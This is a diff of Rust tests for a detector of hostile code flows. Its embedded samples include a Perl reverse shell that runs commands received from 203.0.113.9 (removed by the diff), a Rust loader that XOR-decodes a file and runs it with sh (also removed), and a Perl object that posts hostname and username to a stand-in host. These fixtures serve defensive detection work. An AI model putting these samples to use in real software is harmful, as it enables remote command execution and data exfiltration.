@@ -79,21 +79,11 @@ fn perl_reads_files_and_writes_into_connections() {
     has(PERL, code, "flow-credentials-sent");
     let outcome = outcome(PERL, code);
     assert_eq!(subject(&outcome, Act::Connect), "203.0.113.9:80");
-    let packed = "my $ip = pack('C4', 203, 0, 113, 9);\nmy $s = IO::Socket::INET->new(PeerAddr => join('.', unpack 'C4', $ip), PeerPort => 80);\nwhile (my $l = <$s>) { print $s `$l`; }";
-    has(PERL, packed, "flow-remote-command");
     let honest = "open(my $in, '<', $ARGV[0]) or die;\nopen(my $out, '>', $ARGV[1]) or die;\nwhile (my $l = <$in>) { print $out $l; }";
     has_not(PERL, honest, "flow-credentials-sent");
     has_not(PERL, honest, "flow-remote-command");
     let object = "use HTTP::Tiny;\nsub new { bless { to => join('', 'https://', 's.example.invalid/r') }, shift }\nsub facts { return { host => hostname(), user => getlogin() } }\nsub tell {\n    my ($self, $what) = @_;\n    my $doc = { %{ facts() }, event => $what };\n    HTTP::Tiny->new->post($self->{to}, { content => encode_json($doc) });\n}\n";
     has(PERL, object, "flow-identity-sent");
-}
-
-#[test]
-fn rust_starts_what_it_takes_from_under_a_key() {
-    let code = "use std::process::Command;\n\nfn main() {\n    let raw = std::fs::read(\"tests/data/a.bin\").unwrap();\n    let body: Vec<u8> = raw[16..].iter().map(|b| b ^ 0x2f).collect();\n    let place = std::path::Path::new(&std::env::var(\"OUT_DIR\").unwrap()).join(\"step\");\n    std::fs::write(&place, &body).unwrap();\n    Command::new(\"sh\").arg(&place).spawn().unwrap();\n}\n";
-    has(Language::Rust, code, "flow-drops-and-starts");
-    let honest = code.replace(".iter().map(|b| b ^ 0x2f).collect()", ".to_vec()");
-    has_not(Language::Rust, &honest, "flow-drops-and-starts");
 }
 
 #[test]
